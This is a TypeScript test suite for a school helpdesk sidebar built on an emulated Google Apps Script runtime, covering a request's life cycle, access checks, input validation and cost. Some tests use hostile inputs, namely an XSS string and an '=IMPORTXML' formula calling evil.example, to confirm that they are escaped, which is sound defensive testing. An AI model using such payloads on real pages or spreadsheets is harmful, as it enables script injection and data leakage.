// The request sidebar on the embedded runtime: opened from the menu for the request in the active row, its page
// (card, history, knowledge base, allowed steps, everything a person typed escaped), and a whole life cycle driven
// through its google.script.run functions as the consultant and the director — the mail leaving only from the
// school account through runQueue. Callers without a role and anonymous page visitors are refused.
import type { Runtime } from '../../emulator/index';
import { person } from '../../emulator/people';
import { sentMail } from '../../emulator/services/mail';
import {
  readFormulas,
  readSheetValues,
  setActiveSelection,
  sheetModel,
  uiEvents,
  writeCells,
} from '../../emulator/services/spreadsheet/index';
import { scriptRun } from '../../emulator/web';
import type { AnswerPreview, SidebarResult, SidebarView } from '../../src/domain/request-sidebar';
import type { SheetKey } from '../../src/domain/schema';
import { ru as sidebarRu } from '../../src/locale/sidebar';
import { ru } from '../../src/locale/ru';
import { ru as mailRu } from '../../src/locale/workflow-mail';
import { setSetting } from '../helpers/settings';
import {
  CANNED_ANSWER,
  CONSULTANT,
  DIRECTOR,
  OWNER,
  openSidebar,
  PARENT,
  pageData,
  queueRun,
  registerCall,
  STRANGER,
  sidebarWorkbook as workbook,
  TEACHER,
} from './request-sidebar.workbook';

const SUPPORT = 'support.sedizh@permkrai.example';
const HOSTILE = 'Не видно оценок </script><script>alert("x")</script> <img src=x onerror=alert(1)>';
const T = sidebarRu;

const SIDEBAR_FUNCTIONS = [
  'sidebarRefresh',
  'sidebarSetStatus',
  'sidebarAnswer',
  'sidebarPreviewAnswer',
  'sidebarAskClarification',
  'sidebarReject',
  'sidebarEndForEtiquette',
  'sidebarEscalate',
  'sidebarAssign',
  'sidebarSupportRejected',
];

function records(rt: Runtime, sheet: SheetKey): Array<Record<string, unknown>> {
  const [keys, , ...rows] = readSheetValues(rt, ru.sheets[sheet]);
  return rows
    .map((line) => Object.fromEntries(keys.map((k, j) => [String(k), line[j]]).filter(([k]) => k !== '')))
    .filter((r) => Object.values(r).some((v) => v !== ''));
}
const request = (rt: Runtime, id: string) => records(rt, 'requests').find((r) => r.id === id) ?? {};
const audit = (rt: Runtime, id: string) => records(rt, 'audit').filter((r) => r.requestId === id);

function call<T = SidebarResult>(rt: Runtime, who: string, fn: string, input: Record<string, unknown>): T {
  const result = scriptRun<T>(rt, fn, [input], { from: 'sidebar', user: who });
  if (!result.ok) throw new Error(`${fn}: ${String(result.error)}`);
  return result.value as T;
}

describe('opening the sidebar', () => {
  let rt: Runtime;
  let id: string;
  beforeAll(() => {
    rt = workbook();
    id = registerCall(rt, 'call-1', HOSTILE);
    queueRun(rt);
  });

  it('shows the request in the active row: card, history, the topic’s knowledge base and the allowed steps', () => {
    const sidebar = openSidebar(rt, CONSULTANT, 'E3');
    expect(sidebar?.title).toBe(`Обращение ${id}`);
    const { view, canned } = pageData(sidebar?.html ?? '');
    const field = (key: string) => view.fields.find((f) => f.key === key)?.value;
    expect(field('id')).toBe(id);
    expect(field('status')).toBe(ru.choices.status.new);
    expect(field('topic')).toBe(ru.choices.topic.grades);
    expect(field('requesterType')).toBe(ru.choices.requesterType.parent);
    expect(field('channel')).toBe(ru.choices.channel.phone);
    // Registered Tue 1 Sep 09:00 (a parent, one working day) → due Wed 2 Sep 09:00, in the school's zone.
    expect(field('dueAt')).toBe('02.09.2026 09:00');
    expect(field('assignee')).toBe(`Иванова Анна Сергеевна (${CONSULTANT})`);
    expect(view.roleLabel).toBe('технический консультант');
    expect(view.description).toBe(HOSTILE);
    // The registration's journal entry, read from «Журнал» by the request's ID.
    expect(view.history.map((h) => h.action)).toContain(ru.audit.registered);
    expect(view.actions.map((a) => a.kind)).toEqual([
      'take',
      'clarify',
      'escalate',
      'answer',
      'reject',
      'endForEtiquette',
    ]);
    expect(view.canAssign).toBe(true);
    // Canned answers of this topic only; the other topic's is not offered.
    expect(canned.filter(Boolean)).toEqual([CANNED_ANSWER]);
    const html = sidebar?.html ?? '';
    expect(html).toContain('<a href="https://school.example/grades" target="_blank"');
    expect(html).not.toContain('Про расписание');
    // The select of cl. 9.4.3 reasons and the templated R5.3 question in the clarification box.
    expect(html).toContain(`<option value="lateInfo">${ru.choices.rejectReason.lateInfo}</option>`);
    expect(html).toContain(mailRu.clarification.defaultQuestion.slice(0, 40));
  });

  it('prints everything a person typed as text: no markup, no script, no javascript: link', () => {
    const html = openSidebar(rt, CONSULTANT, 'A3')?.html ?? '';
    // Exactly the page's own script block; the description's "</script><script>" cannot close or open one.
    expect(html.match(/<script>/g)).toHaveLength(1);
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('\\u003c/script>\\u003cscript>alert');
    expect(html).toContain('&lt;b&gt;Опасная&lt;/b&gt; ссылка');
    expect(html).not.toContain('href="javascript:');
  });

  it('says where to put the cursor when it is not on a request', () => {
    const alerts = () => uiEvents(rt, 'alert').filter((e) => e.title === T.notOnRequestTitle);
    setActiveSelection(rt, CONSULTANT, ru.sheets.settings, 'C5');
    expect(person(rt, CONSULTANT).run('showRequestSidebar').ok).toBe(true);
    expect(openSidebar(rt, CONSULTANT, 'B2')).toBeUndefined(); // the header row
    expect(openSidebar(rt, CONSULTANT, 'B40')).toBeUndefined(); // below the last request
    expect(alerts()).toHaveLength(3);
    expect(alerts()[0].message).toBe(
      `Поставьте курсор на строку обращения на листе «Обращения» (с третьей строки) и снова выберите «${T.menuItem}».`,
    );
  });

  it('is refused to an editor without a helpdesk role and to a teacher (who helps by e-mail)', () => {
    const before = uiEvents(rt, 'sidebar').length;
    for (const who of [STRANGER, TEACHER]) {
      setActiveSelection(rt, who, ru.sheets.requests, 'A3');
      const run = person(rt, who).run('showRequestSidebar');
      expect(run.ok).toBe(false);
      expect(run.error?.message).toContain('Действие доступно только сотрудникам');
    }
    expect(uiEvents(rt, 'sidebar')).toHaveLength(before);
  });
});

describe('a whole life cycle from the sidebar', () => {
  let rt: Runtime;
  let id: string;
  let view: SidebarView;
  const act = (who: string, fn: string, input: Record<string, unknown>): SidebarResult => {
    const result = call(rt, who, fn, { requestId: id, expected: view.status, ...input });
    if (result.view) view = result.view;
    return result;
  };
  const kinds = () => view.actions.map((a) => a.kind);

  beforeAll(() => {
    rt = workbook();
    id = registerCall(rt, 'cycle', 'Не отображаются итоговые отметки за четверть.');
    queueRun(rt); // the acknowledgement leaves and starts the requester's thread
    view = pageData(openSidebar(rt, CONSULTANT, 'A3')?.html ?? '').view;
  });

  it('takes the request into work', () => {
    const result = act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' });
    expect(result.ok).toBe(true);
    expect(request(rt, id).status).toBe(ru.choices.status.inProgress);
    expect(view.status).toBe('inProgress');
    expect(kinds()).toEqual(['clarify', 'escalate', 'answer', 'reject', 'endForEtiquette']);
  });

  it('gives the request to a teacher, who gets the question by e-mail (R7)', () => {
    const result = act(CONSULTANT, 'sidebarAssign', { assignee: TEACHER });
    expect(result).toEqual(expect.objectContaining({ ok: true }));
    expect(request(rt, id).assignee).toBe(TEACHER);
    expect(view.fields.find((f) => f.key === 'assignee')?.value).toBe(`Орлов Павел (${TEACHER})`);
    queueRun(rt);
    const toTeacher = sentMail(rt, OWNER).filter((m) => m.to.includes(TEACHER));
    expect(toTeacher).toHaveLength(1);
    expect(toTeacher[0].body).toContain('Не отображаются итоговые отметки за четверть.');
    // The teacher is outside the circle that may see the log: not the requester's address.
    expect(toTeacher[0].body).not.toContain(PARENT);
  });

  it('asks the clarifying question: the question reaches the requester from the school account', () => {
    const result = act(CONSULTANT, 'sidebarAskClarification', { question: 'Какой у вас браузер?' });
    expect(result.ok).toBe(true);
    expect(result.message).toContain(T.mailQueued);
    expect(request(rt, id).status).toBe(ru.choices.status.clarification);
    expect(kinds()).toEqual(['resume', 'escalate', 'answer', 'reject', 'endForEtiquette']);
    queueRun(rt);
    // Threaded into the acknowledgement's conversation, so found by what it says.
    const mail = sentMail(rt, OWNER).find((m) => m.to.includes(PARENT) && m.body.includes(mailRu.clarification.paused));
    expect(mail?.body).toContain('Какой у вас браузер?');
    expect(mail?.subject).toBe(`Re: Обращение ${id} зарегистрировано`);
    // The consultant's own account sent nothing: people's actions only enqueue.
    expect(sentMail(rt, CONSULTANT)).toHaveLength(0);
  });

  it('shows the journal the school account wrote: every step, who made it, from the sidebar', () => {
    const result = act(CONSULTANT, 'sidebarRefresh', {});
    expect(result.ok).toBe(true);
    const steps = view.history.filter((h) => h.action === 'Статус изменён');
    expect(steps.map((h) => h.change)).toEqual([
      'Статус: «Новое» → «В работе»',
      'Статус: «В работе» → «Нужно уточнение»',
    ]);
    expect(steps.every((h) => h.actor === CONSULTANT && h.note === 'боковая панель')).toBe(true);
  });

  it('resumes on the requester’s call and passes the request to the support service with the cl. 9.4 packet', () => {
    expect(act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' }).ok).toBe(true);
    expect(view.status).toBe('inProgress');
    setSetting(rt, 'support.email', SUPPORT);
    const result = act(CONSULTANT, 'sidebarEscalate', {
      tried: 'Перезагрузили страницу, сменили браузер',
      documents: 'Руководство пользователя, раздел 4',
      link: 'https://sedizh.example/forum/123',
    });
    expect(result).toEqual(expect.objectContaining({ ok: true }));
    expect(request(rt, id).status).toBe(ru.choices.status.escalated);
    expect(kinds()).toEqual(['supportReturned', 'clarify', 'answer', 'reject', 'endForEtiquette']);
    queueRun(rt);
    const packet = sentMail(rt, OWNER).find((m) => m.to.includes(SUPPORT));
    expect(packet?.body).toContain('Перезагрузили страницу, сменили браузер');
    expect(packet?.body).toContain('https://sedizh.example/forum/123');
    expect(sentMail(rt, OWNER).some((m) => m.to.includes(PARENT) && m.body.includes('8 800 300 4444'))).toBe(true);
  });

  it('records the support service’s refusal with a cl. 9.4.3 reason, then the consultant completes the packet and escalates again', () => {
    const missing = act(CONSULTANT, 'sidebarSupportRejected', { reason: '' });
    expect(missing.ok).toBe(false);
    expect(request(rt, id).status).toBe(ru.choices.status.escalated);
    const refused = act(CONSULTANT, 'sidebarSupportRejected', { reason: 'insufficientInfo' });
    expect(refused).toEqual(expect.objectContaining({ ok: true }));
    expect(request(rt, id).status).toBe(ru.choices.status.inProgress);
    expect(String(request(rt, id).notes)).toContain(ru.choices.rejectReason.insufficientInfo);
    // The school's own rejections are counted by «Причина отклонения»: the support's refusal is not one.
    expect(request(rt, id).rejectReason).toBe('');
    const again = act(CONSULTANT, 'sidebarEscalate', {
      tried: 'Перезагрузили страницу, сменили браузер; приложили снимок экрана с ошибкой',
      documents: 'Руководство пользователя, раздел 4',
      link: 'https://sedizh.example/forum/123',
    });
    expect(again).toEqual(expect.objectContaining({ ok: true }));
    expect(request(rt, id).status).toBe(ru.choices.status.escalated);
    queueRun(rt);
    const packets = sentMail(rt, OWNER).filter((m) => m.to.includes(SUPPORT));
    expect(packets).toHaveLength(2);
    expect(packets[1].body).toContain('приложили снимок экрана');
  });

  it('takes the support service’s reply back into work, then previews the answer as the requester will get it', () => {
    expect(act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' }).ok).toBe(true);
    const answer = 'Откройте «Дневник» → «Итоговые отметки».\nОтметки появятся после выставления учителем.';
    const preview = call<AnswerPreview>(rt, CONSULTANT, 'sidebarPreviewAnswer', { requestId: id, answer });
    expect(preview.ok).toBe(true);
    expect(preview.subject).toBe(`Ответ на обращение ${id}`);
    expect(preview.text).toContain('Отметки появятся после выставления учителем.');
    expect(preview.text).toContain(mailRu.answer.helped);
    expect(preview.text).toMatch(/\?feedback=/);
    expect(preview.message).toBe(`Письмо уйдёт на адрес ${PARENT} с адреса школы.`);
    // A preview changes nothing.
    expect(request(rt, id).answer).toBe('');
  });

  it('answers: the row records it, the requester gets it in the thread with the rating links', () => {
    const answer = 'Откройте «Дневник» → «Итоговые отметки».\nОтметки появятся после выставления учителем.';
    const result = act(CONSULTANT, 'sidebarAnswer', { answer });
    expect(result.ok).toBe(true);
    const row = request(rt, id);
    expect(row.status).toBe(ru.choices.status.answered);
    expect(row.answer).toBe(answer);
    expect(row.resolvedAt).toBeInstanceOf(Date);
    expect(kinds()).toEqual(['reopen', 'close', 'endForEtiquette']);
    expect(view.canAssign).toBe(false);
    queueRun(rt);
    const mails = sentMail(rt, OWNER).filter((m) => m.to.includes(PARENT));
    const sent = mails.find((m) => m.body.includes(`Ответ на ваше обращение ${id}:`));
    expect(sent?.body).toContain('Отметки появятся после выставления учителем.');
    expect(sent?.threadId).toBe(mails[0].threadId);
    expect((sent?.htmlBody ?? '').match(/href="[^"]*feedback=[^"]*"/g)).toHaveLength(2);
  });

  it('closes, reopens, rejects with a cl. 9.4.3 reason, reopens', () => {
    expect(act(CONSULTANT, 'sidebarSetStatus', { to: 'closed' }).ok).toBe(true);
    expect(request(rt, id).status).toBe(ru.choices.status.closed);
    expect(kinds()).toEqual(['reopen']);
    expect(act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' }).ok).toBe(true);
    expect(request(rt, id).resolvedAt).toBe('');
    expect(act(CONSULTANT, 'sidebarReject', { reason: 'incorrectQuestion' }).ok).toBe(true);
    expect(request(rt, id).rejectReason).toBe(ru.choices.rejectReason.incorrectQuestion);
    queueRun(rt);
    const rejection = sentMail(rt, OWNER).find(
      (m) => m.to.includes(PARENT) && m.body.includes(`Ваше обращение ${id} отклонено.`),
    );
    expect(rejection?.body).toContain(ru.choices.rejectReason.incorrectQuestion);
    expect(act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' }).ok).toBe(true);
    expect(request(rt, id).rejectReason).toBe('');
  });

  it('ends the consultation for etiquette: the director is told; only the director may reopen it', () => {
    const result = act(CONSULTANT, 'sidebarEndForEtiquette', { reason: 'Оскорбления в переписке' });
    expect(result).toEqual(expect.objectContaining({ ok: true }));
    expect(String(request(rt, id).notes)).toContain('Оскорбления в переписке');
    expect(kinds()).toEqual([]);
    expect(view.noActions).toBe('Из статуса «Прекращено (нарушение этикета)» вам не доступно ни одного действия.');
    // Forged past the page: the life cycle itself refuses the consultant.
    const forged = act(CONSULTANT, 'sidebarSetStatus', { to: 'inProgress' });
    expect(forged.ok).toBe(false);
    expect(forged.message).toContain('директор');
    queueRun(rt);
    expect(sentMail(rt, OWNER).some((m) => m.to.includes(DIRECTOR) && m.body.includes(id))).toBe(true);
    // The director's own sidebar offers the way back.
    const director = pageData(openSidebar(rt, DIRECTOR, `B3`)?.html ?? '').view;
    expect(director.actions.map((a) => a.kind)).toEqual(['reopen']);
    const reopened = call(rt, DIRECTOR, 'sidebarSetStatus', {
      requestId: id,
      expected: 'etiquetteEnded',
      to: 'inProgress',
    });
    expect(reopened.ok).toBe(true);
    expect(request(rt, id).status).toBe(ru.choices.status.inProgress);
  });

  it('leaves the whole story in «Журнал», and every e-mail went from the school account', () => {
    queueRun(rt);
    const changes = audit(rt, id)
      .filter((e) => e.columnKey === 'status')
      .map((e) => `${e.before} → ${e.after}`);
    expect(changes).toEqual([
      'Новое → В работе',
      'В работе → Нужно уточнение',
      'Нужно уточнение → В работе',
      'В работе → Передано в Службу поддержки',
      'Передано в Службу поддержки → В работе', // the support service refused (cl. 9.4.3)
      'В работе → Передано в Службу поддержки', // the completed packet, sent again
      'Передано в Службу поддержки → В работе',
      'В работе → Дан ответ',
      'Дан ответ → Закрыто',
      'Закрыто → В работе',
      'В работе → Отклонено',
      'Отклонено → В работе',
      'В работе → Прекращено (нарушение этикета)',
      'Прекращено (нарушение этикета) → В работе',
    ]);
    for (const who of [CONSULTANT, DIRECTOR]) expect(sentMail(rt, who)).toHaveLength(0);
  });
});

describe('bad input and a request that moved on', () => {
  let rt: Runtime;
  let id: string;
  beforeAll(() => {
    rt = workbook();
    id = registerCall(rt, 'bad', 'Не открывается дневник.');
  });

  it('refuses a step the request has moved past since the sidebar showed it, and says what it is now', () => {
    expect(call(rt, DIRECTOR, 'sidebarSetStatus', { requestId: id, expected: 'new', to: 'inProgress' }).ok).toBe(true);
    // The consultant's sidebar still shows «Новое».
    const result = call(rt, CONSULTANT, 'sidebarAnswer', { requestId: id, expected: 'new', answer: 'Ответ' });
    expect(result.ok).toBe(false);
    expect(result.message).toBe(
      'Пока панель была открыта, статус обращения изменился: теперь «В работе». Панель обновлена, проверьте и повторите. Введённый текст сохранён.',
    );
    expect(result.view?.status).toBe('inProgress');
    expect(request(rt, id).answer).toBe('');
  });

  it.each([
    ['a missing answer', 'sidebarAnswer', { answer: '   ' }, T.problems.answerRequired],
    ['a reason outside cl. 9.4.3', 'sidebarReject', { reason: 'надоел' }, T.problems.reasonRequired],
    ['an etiquette end without a reason', 'sidebarEndForEtiquette', { reason: '' }, T.problems.etiquetteReasonRequired],
    ['a status with its own form', 'sidebarSetStatus', { to: 'answered' }, T.problems.notOffered],
    [
      'a text longer than a cell',
      'sidebarAnswer',
      { answer: 'я'.repeat(50_001) },
      T.problems.tooLong.replace('{max}', '50 000'),
    ],
    ['a number for the answer', 'sidebarAnswer', { answer: 42 }, T.problems.badInput],
    ['an unknown status shown', 'sidebarAnswer', { answer: 'x', expected: 'done' }, T.problems.badInput],
  ])('refuses %s with a clear message and changes nothing', (_what, fn, input, message) => {
    const before = request(rt, id);
    const result = call(rt, CONSULTANT, fn, { requestId: id, ...input });
    expect(result).toEqual(expect.objectContaining({ ok: false, message }));
    expect(request(rt, id)).toEqual(before);
  });

  it('refuses calls that are not from the sidebar at all', () => {
    for (const input of [null, 'ОБ-2026-00001', [id], { requestId: 7 }, { requestId: '' }, { requestId: 'x\ny' }]) {
      const result = scriptRun<SidebarResult>(rt, 'sidebarRefresh', [input], { from: 'sidebar', user: CONSULTANT });
      expect(result.value).toEqual({ ok: false, message: T.problems.badInput });
    }
    const missing = call(rt, CONSULTANT, 'sidebarRefresh', { requestId: 'ОБ-2026-99999' });
    expect(missing).toEqual({
      ok: false,
      message: 'Обращение ОБ-2026-99999 не найдено: возможно, строку удалили или номер изменили.',
    });
  });

  it('keeps a hostile answer as plain text in the cell and escaped in the e-mail', () => {
    const answer = '=IMPORTXML("http://evil.example","//a") <img src=x onerror=alert(1)>';
    expect(call(rt, CONSULTANT, 'sidebarAnswer', { requestId: id, expected: 'inProgress', answer }).ok).toBe(true);
    expect(request(rt, id).answer).toBe(answer);
    expect(
      readFormulas(rt, ru.sheets.requests)
        .flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
    queueRun(rt);
    const mail = sentMail(rt, OWNER).find((m) => m.body.includes(`Ответ на ваше обращение ${id}:`));
    expect(mail?.htmlBody).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(mail?.htmlBody).not.toContain('<img src=x');
  });
});

describe('who may call the sidebar’s functions', () => {
  let rt: Runtime;
  let id: string;
  beforeAll(() => {
    rt = workbook();
    id = registerCall(rt, 'who', 'Не открывается дневник.');
  });

  const inputs: Record<string, Record<string, unknown>> = {
    sidebarSetStatus: { to: 'inProgress' },
    sidebarAnswer: { answer: 'Ответ постороннего' },
    sidebarPreviewAnswer: { answer: 'Ответ постороннего' },
    sidebarAskClarification: { question: 'Вопрос' },
    sidebarReject: { reason: 'lateInfo' },
    sidebarEndForEtiquette: { reason: 'Причина' },
    sidebarRefresh: {},
    sidebarEscalate: { tried: 'Перезагрузили страницу' },
    sidebarAssign: { assignee: STRANGER },
  };

  it.each(SIDEBAR_FUNCTIONS)('%s: refused to an anonymous visitor of the public web app', (fn) => {
    const result = scriptRun(rt, fn, [{ requestId: id, ...inputs[fn] }], { from: 'web-app', user: '' });
    expect(result.ok).toBe(false);
    expect(String(result.error?.message)).toContain(ru.access.blankIdentity);
  });

  it.each(SIDEBAR_FUNCTIONS)('%s: refused to an editor without a role and to a teacher', (fn) => {
    for (const who of [STRANGER, TEACHER]) {
      const result = person(rt, who).call(fn, { requestId: id, ...inputs[fn] });
      expect(result.ok).toBe(false);
      expect(String(result.error?.message)).toContain('Действие доступно только сотрудникам');
    }
  });

  it('left the request exactly as it was, with no mail queued', () => {
    queueRun(rt);
    const row = request(rt, id);
    expect(row.status).toBe(ru.choices.status.new);
    expect(row.answer).toBe('');
    expect(row.rejectReason).toBe('');
    expect(row.notes).toBe('');
    expect(row.assignee).toBe(CONSULTANT);
    expect(sentMail(rt, OWNER).filter((m) => m.to.includes(STRANGER))).toEqual([]);
    expect(
      sentMail(rt, OWNER)
        .filter((m) => m.to.includes(PARENT))
        .map((m) => m.subject),
    ).toEqual([`Обращение ${id} зарегистрировано`]);
  });
});

describe('what the sidebar costs as the log and the journal grow', () => {
  interface Cost {
    calls: number;
    cells: number;
    ms: number;
  }
  const measure = (rt: Runtime, run: () => { execution: { startedAt: number; endedAt: number } } | undefined) => {
    rt.resetCounters();
    const outcome = run();
    return {
      calls: rt.countOf(/./),
      cells: rt.cellsMoved,
      ms: outcome ? outcome.execution.endedAt - outcome.execution.startedAt : 0,
    };
  };

  /** Room for rows written from outside, as the script's own appends would have made. */
  const grow = (rt: Runtime, name: string, rows: number) => {
    const sheet = sheetModel(rt, name);
    if (sheet.maxRows < rows) sheet.insertRows(sheet.maxRows + 1, rows - sheet.maxRows);
  };

  /** Opening the sidebar and answering, as the consultant, on the request in row `row`. */
  function costs(rt: Runtime, id: string, row: number): { open: Cost; answer: Cost } {
    setActiveSelection(rt, CONSULTANT, ru.sheets.requests, `A${row}`);
    const open = measure(rt, () => person(rt, CONSULTANT).run('showRequestSidebar'));
    const answer = measure(rt, () => {
      const result = scriptRun(rt, 'sidebarAnswer', [{ requestId: id, expected: 'new', answer: 'Ответ' }], {
        from: 'sidebar',
        user: CONSULTANT,
      });
      expect(result.value).toEqual(expect.objectContaining({ ok: true }));
      return result.outcome;
    });
    return { open, answer };
  }

  it('reads the request’s row and its journal entries only: the same with 20 000 journal rows and 5 000 requests', () => {
    const small = workbook();
    const smallId = registerCall(small, 'cost-small', 'Не открывается дневник.');
    queueRun(small);
    const before = costs(small, smallId, 3);

    const big = workbook();
    // Others' requests and their journal rows first, then the one under the cursor at the end of both.
    const requestKeys = readSheetValues(big, ru.sheets.requests)[0] as string[];
    const auditKeys = readSheetValues(big, ru.sheets.audit)[0] as string[];
    const line = (keys: string[], values: Record<string, unknown>) => keys.map((k) => values[k] ?? '');
    const others = Array.from({ length: 5_000 }, (_, i) =>
      line(requestKeys, {
        id: `ОБ-2025-${String(i + 1).padStart(5, '0')}`,
        createdAt: new Date(Date.UTC(2025, 8, 1, 5) + i * 3_600_000),
        status: ru.choices.status.closed,
        topic: ru.choices.topic.grades,
      }),
    );
    grow(big, ru.sheets.requests, 3 + others.length + 50);
    writeCells(big, ru.sheets.requests, 3, 1, others);
    const journal = Array.from({ length: 20_000 }, (_, i) =>
      line(auditKeys, {
        at: new Date(Date.UTC(2025, 8, 1, 5) + i * 600_000),
        requestId: `ОБ-2025-${String((i % 5_000) + 1).padStart(5, '0')}`,
        action: 'Статус изменён',
        columnKey: 'status',
        actor: CONSULTANT,
      }),
    );
    grow(big, ru.sheets.audit, 3 + journal.length + 50);
    writeCells(big, ru.sheets.audit, 3, 1, journal);
    const bigId = registerCall(big, 'cost-big', 'Не открывается дневник.');
    queueRun(big);
    const after = costs(big, bigId, 5_003);
    // Measured: opening 91 calls, 622 cells, 0.8 s modelled; answering 162 calls, 709 cells, 1.4 s — both sizes.
    for (const step of ['open', 'answer'] as const) {
      expect(after[step].calls).toBeLessThanOrEqual(before[step].calls + 2);
      expect(after[step].cells).toBeLessThanOrEqual(before[step].cells + 100);
      expect(after[step].ms).toBeLessThan(5_000);
    }
  });
});
